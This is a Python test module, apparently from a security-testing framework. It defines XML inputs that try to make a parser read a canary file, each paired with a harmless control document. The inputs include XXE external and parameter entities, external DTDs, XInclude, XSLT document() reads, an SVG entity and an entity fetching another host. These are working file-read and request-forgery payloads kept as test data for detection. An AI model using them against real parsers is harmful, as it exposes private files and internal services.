"""Documents of XML that name the canary file: as an entity, as their definition, as a part to include."""

from __future__ import annotations

from casemate.proofs.oracle import Input

_CALM = "<r><a>{calm}</a></r>"
_DOCUMENTS = (
    ('<!DOCTYPE r [<!ENTITY x SYSTEM "file://{file}">]><r><a>&x;</a></r>', "an entity"),
    (
        '<?xml version="1.0"?>\n<!DOCTYPE r [<!ELEMENT r ANY><!ENTITY x SYSTEM "file://{file}">]>\n<r>&x;</r>',
        "an entity of an element that is declared",
    ),
    ('<!DOCTYPE r [<!ENTITY x SYSTEM "{file}">]><r><a>&x;</a></r>', "an entity by a path"),
    ('<!DOCTYPE r [<!ENTITY % x SYSTEM "file://{file}"> %x;]><r><a>{calm}</a></r>', "a parameter entity"),
    ('<!DOCTYPE r SYSTEM "file://{file}"><r><a>{calm}</a></r>', "a definition of its own"),
    ('<!DOCTYPE r PUBLIC "-//A//B" "file://{file}"><r><a>{calm}</a></r>', "a public definition"),
    (
        '<r xmlns:xi="http://www.w3.org/2001/XInclude"><a><xi:include parse="text" href="file://{file}"/></a></r>',
        "a part to include",
    ),
    ('<!DOCTYPE r [<!ENTITY x SYSTEM "http://{host}/">]><r><a>&x;</a></r>', "an entity of another host"),
    ('<?xml-stylesheet type="text/xsl" href="file://{file}"?><r><a>{calm}</a></r>', "a style sheet"),
    (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
        "<xsl:copy-of select=\"document('file://{file}')\"/></xsl:template></xsl:stylesheet>",
        "a style sheet that reads a document",
    ),
)
_PICTURE = (
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file://{file}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
)

INPUTS = (
    *(Input(name=name, payload={"text": text}, control={"text": _CALM}) for text, name in _DOCUMENTS),
    Input(
        name="an entity in a picture",
        payload={"text": _PICTURE},
        control={"text": '<svg xmlns="http://www.w3.org/2000/svg"><text>{calm}</text></svg>'},
    ),
    Input(name="an entity, as bytes", payload={"latin1": _DOCUMENTS[0][0]}, control={"latin1": _CALM}),
)
